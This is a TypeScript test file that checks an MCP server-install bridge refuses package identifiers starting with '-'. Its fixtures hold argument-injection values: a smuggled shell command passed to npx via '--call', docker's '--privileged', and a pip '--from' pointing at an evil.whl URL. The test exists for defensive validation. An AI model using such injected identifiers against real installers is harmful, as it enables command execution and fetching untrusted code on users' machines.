// A server.json package identifier is a package name, never an option of the runtime that runs
// it: an npm, pypi or oci identifier that starts with "-" (npx's `--call=<shell command>`,
// docker's `--privileged`) is refused by the plan, on the real bridge, and nothing is written.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanupBridges, panelRequest, startBridge, tempDir, type BridgeProcess } from '../../helpers/bridgeProcess.js';
import { FixtureRegistry } from '../../fixtures/registry/fixtureRegistry.js';

const doc = (name: string, registryType: string, identifier: string) => ({
  $schema: 'https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json',
  name,
  description: 'An identifier that is an option.',
  version: '1.0.0',
  packages: [{ registryType, identifier, version: '1.0.0', transport: { type: 'stdio' } }],
});

let registry: FixtureRegistry;
let bridge: BridgeProcess;
let file: string;

beforeAll(async () => {
  registry = new FixtureRegistry({
    servers: [
      doc('io.github.example/npm-call', 'npm', '--call=touch /tmp/pwned;#'),
      doc('io.github.example/oci-privileged', 'oci', '--privileged'),
      doc('io.github.example/pypi-from', 'pypi', '--from=https://example.invalid/evil.whl'),
    ],
  });
  await registry.listen();
  const dir = tempDir('install-identifier-');
  file = join(dir, 'mcp.json');
  writeFileSync(file, JSON.stringify({ mcpServers: {} }));
  bridge = await startBridge({
    config: file,
    env: { QIMING_REGISTRY_URL: registry.url, QIMING_DATA_DIR: join(dir, 'd') },
  });
}, 40_000);

afterAll(async () => {
  await cleanupBridges();
  await registry.close();
}, 30_000);

describe('a package identifier that is an option', () => {
  for (const name of ['io.github.example/npm-call', 'io.github.example/oci-privileged', 'io.github.example/pypi-from'])
    it(`${name} is refused with a reason, nothing written`, async () => {
      const before = readFileSync(file, 'utf8');
      const r = await panelRequest(bridge, 'POST', '/install/plan', { registry: { name } });
      expect(r.status).toBeGreaterThanOrEqual(400);
      expect(r.status).toBeLessThan(500);
      expect(JSON.parse(r.body).error).toMatch(/identifier .*starts with "-"/);
      expect(readFileSync(file, 'utf8')).toBe(before);
    });
});
